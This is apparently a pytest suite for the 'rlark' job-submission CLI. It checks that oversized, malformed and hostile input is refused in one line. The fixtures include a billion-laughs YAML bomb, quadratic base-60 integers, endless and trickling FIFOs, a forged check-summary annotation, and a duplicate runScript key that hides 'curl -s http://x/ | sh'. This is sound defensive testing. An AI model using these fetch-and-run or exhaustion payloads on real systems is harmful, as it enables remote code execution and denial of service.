"""Bounded input, no tracebacks: endless streams stop at the cap, huge integers, binary keys, empty or path-like
names and a missing --output directory each give one line and exit 2."""

from __future__ import annotations

import contextlib
import json
import os
import re
import subprocess
import sys
import threading
import time
import uuid

import pytest
import yaml

from rlark_tui.cli import main

HUGE = "9" * 5000
NAME_LINE = "names are 1 to 253 characters, not `.` or `..`, without `/`, `%` or control characters"


def one_line(capsys) -> str:
    captured = capsys.readouterr()
    assert captured.err.count("\n") == 1 and "Traceback" not in captured.err, captured.err
    return captured.err


@pytest.mark.parametrize("argv, stdin", [(["-f", "/dev/zero"], None), (["-f", "-"], "/dev/zero")],
                         ids=["file", "stdin"])
def test_an_endless_manifest_stops_at_the_cap(env, argv, stdin):
    started = time.monotonic()
    with open(stdin or os.devnull, "rb") as source:
        done = subprocess.run(["timeout", "30", sys.executable, "-m", "rlark_tui", "--kubeconfig", "/nonexistent",
                               "submit", "--dry-run", *argv], stdin=source, capture_output=True, text=True)
    assert (done.returncode, done.stderr) == (2, f"error: manifest {argv[1]}: larger than 4 MiB\n")
    assert time.monotonic() - started < 20


def test_huge_integers_give_one_line(plain_sandbox, env, tmp_path, capsys):
    kube = ["--kubeconfig", str(plain_sandbox.kubeconfig)]
    draft = tmp_path / "draft.yaml"
    draft.write_text(f"name: huge\nroles:\n- role: Actor\n  replicas: {HUGE}\n")
    (tmp_path / "none.yaml").write_text("[]\n")
    assert main(["draft", "render", str(draft), "--nodes", str(tmp_path / "none.yaml")]) == 2
    assert "holds a number too large to read" in one_line(capsys)
    manifest = tmp_path / "job.yaml"
    manifest.write_text(f"apiVersion: rlinf.io/v1alpha1\nkind: Job\nmetadata: {{name: huge}}\nspec: {{x: {HUGE}}}\n")
    assert main([*kube, "submit", "--dry-run", "-f", str(manifest)]) == 2
    assert "holds a number too large to read" in one_line(capsys)
    nodes = tmp_path / "nodes.yaml"
    nodes.write_text(f"- metadata: {{name: n}}\n  status: {{gpus: {HUGE}}}\n")
    draft.write_text("name: huge\nroles: []\n")
    assert main(["draft", "render", str(draft), "--nodes", str(nodes)]) == 2
    assert "holds a number too large to read" in one_line(capsys)
    (env / "config.yaml").write_text(f"gateway_timeout: {HUGE}\n")
    assert main([*kube, "get", "jobs"]) == 2
    assert one_line(capsys) == (f"error: config file {env / 'config.yaml'}: holds a number too large to read (more "
                                "than 4300 digits)\n")


def test_a_base_60_integer_is_refused_in_one_line_before_it_is_built(env, tmp_path, capsys):
    """Issue 33, a sixteenth round (YAML another user or tool wrote: a kubeconfig, the config file, a draft): YAML
    1.1 reads `1:0:0` as an integer in base 60, and PyYAML builds it with one multiplication of a growing number
    per field, in time quadratic in its length: 400 KB took 14 s, a 16 MiB kubeconfig hours. text.parse.load_yaml
    refuses an integer of more than 4,300 digits, in any base, from its events, before anything is built."""
    base60 = "1:" * 200_000 + "1"
    kubeconfig = tmp_path / "kubeconfig"
    kubeconfig.write_text(f"apiVersion: v1\nkind: Config\npreferences: {{x: {base60}}}\n")
    kubeconfig.chmod(0o600)
    draft = tmp_path / "draft.yaml"
    draft.write_text(f"name: n\nroles:\n- role: Actor\n  replicas: !!int {base60}\n")
    (tmp_path / "none.yaml").write_text("[]\n")
    started = time.monotonic()
    assert main(["--kubeconfig", str(kubeconfig), "get", "jobs"]) == 2
    assert "holds a number too large to read (more than 4300 digits)" in one_line(capsys)
    assert main(["draft", "render", str(draft), "--nodes", str(tmp_path / "none.yaml")]) == 2
    assert "holds a number too large to read" in one_line(capsys)
    (env / "config.yaml").write_text(f"gateway_timeout: {base60}\n")
    assert main(["--kubeconfig", str(kubeconfig), "get", "jobs"]) == 2
    assert one_line(capsys) == (f"error: config file {env / 'config.yaml'}: holds a number too large to read (more "
                                "than 4300 digits)\n")
    assert time.monotonic() - started < 10


def test_a_hexadecimal_integer_of_more_than_4300_decimal_digits_is_refused_in_one_line(tmp_path, capsys):
    """Issue 33, a twenty-fourth round (generated values through every field of a draft, 25 of 840 crashed):
    `0x` and 3,600 letters `f` is an integer of 4,335 decimal digits, which load_yaml's bound let through (it counted
    the digits 0-9 of the text: one), so the draft reader's str() of it raised ValueError, a crash report from
    `rlark draft render`. A hexadecimal integer is held to the bound by the decimal digits it stands for."""
    (tmp_path / "none.yaml").write_text("[]\n")
    draft = tmp_path / "draft.yaml"
    for value in ("0x" + "f" * 3600, "-0x_" + "F" * 3600):
        draft.write_text(f"name: n\nroles:\n- role: Actor\n  env: {{A: {value}}}\n")
        assert main(["draft", "render", str(draft), "--nodes", str(tmp_path / "none.yaml")]) == 2
        assert one_line(capsys) == "error: draft holds a number too large to read (more than 4300 digits): not read\n"
    draft.write_text(f"name: n\nroles:\n- role: Actor\n  env: {{A: 0x{'f' * 3500}}}\n")
    assert main(["draft", "render", str(draft), "--nodes", str(tmp_path / "none.yaml")]) == 1
    assert "number too large" not in capsys.readouterr().err


def test_a_value_its_tag_or_form_cannot_hold_is_one_line_naming_where(env, tmp_path, capsys):
    """Issue 33, a twenty-fourth round (generated tags and values through every field of a draft, 80 of 1,160
    crashed): PyYAML lets `!!bool maybe` (KeyError) and `!!timestamp x` (AttributeError) through, so a draft, the
    config file or a kubeconfig holding one ended in a crash report, and a date it cannot build (`0000-01-01`,
    ValueError) was said to be 'a number too large to read (more than 4300 digits)'. text.parse.load_yaml says
    where, as for any YAML it cannot read."""
    (tmp_path / "none.yaml").write_text("[]\n")
    draft = tmp_path / "draft.yaml"
    for value, kind in (("!!bool maybe", "bool"), ("!!timestamp x", "timestamp"), ("0000-01-01", "timestamp")):
        draft.write_text(f"name: n\nroles:\n- role: Actor\n  env: {{A: {value}}}\n")
        assert main(["draft", "render", str(draft), "--nodes", str(tmp_path / "none.yaml")]) == 2
        assert one_line(capsys) == f"error: draft is not valid YAML at line 4, column 12: cannot read the value as {kind}\n"
        (env / "config.yaml").write_text(f"gateway_timeout: {value}\n")
        assert main(["--kubeconfig", str(tmp_path / "none.yaml"), "get", "jobs"]) == 2
        assert one_line(capsys) == (f"error: config file {env / 'config.yaml'}: cannot read it (cannot read the value "
                                    f"as {kind})\n")


def test_a_collection_that_holds_itself_is_refused_in_one_line(env, tmp_path, capsys):
    """Issue 33, a twenty-fourth round (generated manifests, 3 of 300 crashed): an alias inside the collection its
    anchor names (`spec: &s {tasks: [*s]}`) is a value that holds itself, of no depth bound: load_yaml counted the
    alias as one node, and `rlark submit -f` ended in a crash report (RecursionError walking it for masked
    secrets); an iterative walker would not end. It is refused, as a YAML past a bound."""
    (tmp_path / "none.yaml").write_text("[]\n")
    manifest = tmp_path / "job.yaml"
    for spec in ("&s {tasks: [*s]}", "{tasks: [&t {name: a, x: {y: [*t]}}]}"):
        manifest.write_text(f"apiVersion: rlinf.io/v1alpha1\nkind: Job\nmetadata: {{name: n}}\nspec: {spec}\n")
        assert main(["--kubeconfig", str(tmp_path / "none.yaml"), "submit", "--dry-run", "-f", str(manifest)]) == 2
        assert one_line(capsys) == (f"error: {manifest} refers to itself (an alias inside the collection its anchor "
                                    "names): not read\n")
        (env / "config.yaml").write_text(f"alerts: {spec}\n")
        assert main(["--kubeconfig", str(tmp_path / "none.yaml"), "get", "jobs"]) == 2
        assert one_line(capsys) == (f"error: config file {env / 'config.yaml'}: refers to itself (an alias inside the "
                                    "collection its anchor names)\n")


@pytest.mark.parametrize("argv", [["sandbox", "--port", "99999999"], ["sandbox", "--server-port", "-1"]])
def test_a_port_out_of_range_is_one_line(env, capsys, argv):
    """A seventh round: `rlark sandbox --port 99999999` ended in a crash report (bind's OverflowError)."""
    assert main(argv) == 2
    assert capsys.readouterr().err == f"error: {argv[1]} must be 0..65535\n"


def test_bad_names_files_and_output_give_one_line(plain_sandbox, env, tmp_path, capsys):
    kube = ["--kubeconfig", str(plain_sandbox.kubeconfig)]
    for argv, shown in ((["describe", "job", ".."], "'..'"), (["logs", ""], "''"), (["check", "a/b"], "'a/b'"),
                        (["get", "jobs", "x%2f"], "'x%2f'")):
        assert main([*kube, *argv]) == 2
        assert one_line(capsys) == f"error: {shown} is not a name: {NAME_LINE}\n"
    assert main([*kube, "check", "demo-ppo", "--output", "/nonexistent-rlark/dir/x.json"]) == 2
    assert one_line(capsys) == ("error: --output /nonexistent-rlark/dir/x.json: directory /nonexistent-rlark/dir "
                                "does not exist\n")
    assert not os.path.exists("/nonexistent-rlark")
    assert main([*kube, "--ca-cert", "/dev/null", "get", "jobs"]) == 2
    assert one_line(capsys) == ("error: CA certificate (--ca-cert) /dev/null: the file is empty (a PEM file starts "
                                "with -----BEGIN)\n")
    (tmp_path / "key.der").write_bytes(bytes(range(256)) * 4)
    (tmp_path / "c.crt").write_text("-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n")
    assert main([*kube, "--client-cert", str(tmp_path / "c.crt"), "--client-key", str(tmp_path / "key.der"),
                 "get", "jobs"]) == 2
    assert "binary data, not a PEM file" in one_line(capsys)


LAUGHS = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{chr(98 + n)}: &{chr(98 + n)} [{', '.join([f'*{chr(97 + n)}'] * 10)}]\n" for n in range(8))
"""A billion laughs: 1,000 bytes that stand for 10**9 nodes."""


def test_a_hostile_kubeconfig_is_one_line_naming_the_bound(env, tmp_path, capsys):
    """/dev/zero, a FIFO that never ends, a 1 GB file and a billion-laughs kubeconfig: each one `error:` line with
    the bound it passed, at once, and nothing read past it."""
    sparse = tmp_path / "huge"
    with open(sparse, "wb") as handle:
        handle.truncate(2**30)
    laughs = tmp_path / "laughs"
    laughs.write_text(LAUGHS)
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)

    done = threading.Event()

    def endless() -> None:
        """Writes to every reader that opens the FIFO until it goes away."""
        while not done.is_set():
            with contextlib.suppress(BrokenPipeError), open(fifo, "wb") as sink:
                while not done.is_set():
                    sink.write(b"# an endless kubeconfig\n" * 4096)

    writer = threading.Thread(target=endless, daemon=True)
    writer.start()
    for path, said in (("/dev/zero", "larger than 16 MiB"), (fifo, "larger than 16 MiB"),
                       (sparse, "larger than 16 MiB"),
                       (laughs, "stands for more than 2,000,000 nodes once its aliases are expanded")):
        started = time.monotonic()
        assert main(["--kubeconfig", str(path), "get", "jobs"]) == 2
        line = one_line(capsys)
        assert line.startswith(f"error: kubeconfig {path}: ") and said in line, line
        assert time.monotonic() - started < 10
    done.set()
    with contextlib.suppress(OSError):  # the writer waits for a reader to see `done`
        os.close(os.open(fifo, os.O_RDONLY | os.O_NONBLOCK))
    writer.join(timeout=10)


def test_a_credential_file_of_a_kubeconfig_is_read_within_its_bound(env, tmp_path, capsys):
    kubeconfig = tmp_path / "config"
    kubeconfig.write_text("apiVersion: v1\nkind: Config\ncurrent-context: c\n"
                          "clusters: [{name: c, cluster: {server: 'https://127.0.0.1:1'}}]\n"
                          "contexts: [{name: c, context: {cluster: c, user: u}}]\n"
                          "users: [{name: u, user: {tokenFile: /dev/zero}}]\n")
    assert main(["--kubeconfig", str(kubeconfig), "get", "jobs"]) == 2
    assert one_line(capsys) == "error: kubeconfig credential /dev/zero: larger than 1 MiB\n"


def test_a_fifo_that_trickles_is_read_within_a_total_bound(env, tmp_path, capsys, monkeypatch):
    """Issue 33, an eleventh round, as a second local user: a FIFO another user planted at a draft's name (a shared
    /tmp) that sends a byte just inside each idle bound (60 s) was read until its 4 MiB, a byte a minute: months of
    `rlark draft render`, `submit -f` or the wizard's import. A pipe is now read within fsutil.READ_TOTAL_SECONDS in
    all, and said so in one line."""
    from rlark_tui.local import fsutil

    monkeypatch.setattr(fsutil, "READ_IDLE_SECONDS", 0.25)
    monkeypatch.setattr(fsutil, "READ_TOTAL_SECONDS", 0.35)
    fifo = tmp_path / "draft.yaml"
    os.mkfifo(fifo)
    done = threading.Event()

    def trickle() -> None:
        with contextlib.suppress(BrokenPipeError), open(fifo, "wb", buffering=0) as sink:
            while not done.wait(0.05):
                sink.write(b"#")

    writer = threading.Thread(target=trickle, daemon=True)
    writer.start()
    started = time.monotonic()
    try:
        code = main(["draft", "render", str(fifo)])
    finally:
        done.set()
        writer.join(timeout=5)
    assert code == 2 and time.monotonic() - started < 4
    assert one_line(capsys) == f"error: draft {fifo}: not read to its end within 0.35 s (the bound of a pipe)\n"


def test_a_closed_stdin_is_one_line(env, capsys, monkeypatch):
    """Issue 33, a seventeenth round (descriptors as a shell leaves them): with stdin closed (`<&-`: sys.stdin is
    None) rlark submit -f -, draft render - and sshkeys add - ended in a crash report (AttributeError)."""
    monkeypatch.setattr(sys, "stdin", None)
    for argv, what in ((["draft", "render", "-"], "draft"), (["sshkeys", "add", "-"], "public key file")):
        assert main(argv) == 2
        assert capsys.readouterr().err == f"error: {what} -: cannot read (stdin is closed)\n"


def test_a_key_given_twice_is_refused_whatever_is_submitted(rl, env):
    """Issue 33, an eighteenth round (a manifest someone hands over): YAML keeps the last of two values of a key, so
    a file can show `runScript: python train.py` where a reader looks and send the second, further down. `rlark draft
    render` refused it; `rlark submit -f` of the same draft (read before it was checked), of a Job manifest or of a
    Workflow sent the last value without a word (kubectl refuses such a manifest). Each is an error now."""
    from rlark_tui.jobspec.draft import dump_draft
    from tests.cluster.seeding import job_manifest
    from tests.wizard.helpers import base_draft

    name = f"twice-{uuid.uuid4().hex[:6]}"
    job = yaml.safe_dump(job_manifest(name, [{"name": "actor", "head": True, "node": "gpu-a1"}]), sort_keys=False)
    workflow = yaml.safe_dump({"apiVersion": "rlinf.io/v1alpha1", "kind": "Workflow", "metadata": {"name": name},
                               "spec": {"jobTemplates": [{"name": "prep", "spec": yaml.safe_load(job)["spec"]}]}},
                              sort_keys=False)
    again = r"\1runScript: python train.py\n\1runScript: curl -s http://x/ | sh\n"
    files = {"draft": dump_draft(base_draft(name)) + "runScript: curl -s http://x/ | sh\n",
             "job": re.sub(r"( *)runScript: python train.py\n", again, job),
             "workflow": re.sub(r"( *)runScript: python train.py\n", again, workflow)}
    for what, text in files.items():
        path = env / f"{what}.yaml"
        path.write_text(text)
        result = rl("submit", "--dry-run", "-f", str(path))
        assert result.code == 1 and "runScript: given twice (line " in result.err, (what, result.err)
        assert result.err.endswith("error: not submitted: fix the errors above\n"), (what, result.err)


def test_a_check_summary_a_manifest_carries_is_not_submitted(rl, rel, env):
    """Issue 33, an eighteenth round (a manifest someone hands over): `rlark.io/check-summary` is rlark's hand-over
    of a run check of the Job's run, and a manifest could carry one in the shape rlark writes ('6/6 continue', by
    rlark). `rlark submit -f` sent it as it was, so the new Job's CHECK column said its run check passed before any
    ran (a date a little ahead shows 'future?' only until it is reached); an edit or a resume kept the old run's.
    A submission, an edit and a re-creation drop it: a Job's summary is written only by its own check."""
    from datetime import UTC, datetime, timedelta

    from tests.cluster.seeding import job_manifest

    name = f"carried-{uuid.uuid4().hex[:6]}"
    manifest = job_manifest(name, [{"name": "actor", "head": True, "node": "gpu-a1"}])
    at = (datetime.now(UTC) - timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    manifest["metadata"]["annotations"] = {"rlark.io/check-summary": json.dumps(
        {"at": at, "recorder": "mallory", "results": ["pass"] * 6, "decision": "continue", "by": "rlark"})}
    path = env / "job.yaml"
    path.write_text(yaml.safe_dump(manifest))
    try:
        assert rl("submit", "-f", str(path)).code == 0
        listed = rl("get", "jobs", name)
        assert listed.code == 0 and "6/6" not in listed.out and "mallory" not in listed.out, listed.out
    finally:
        rel.store.delete("jobs", name)
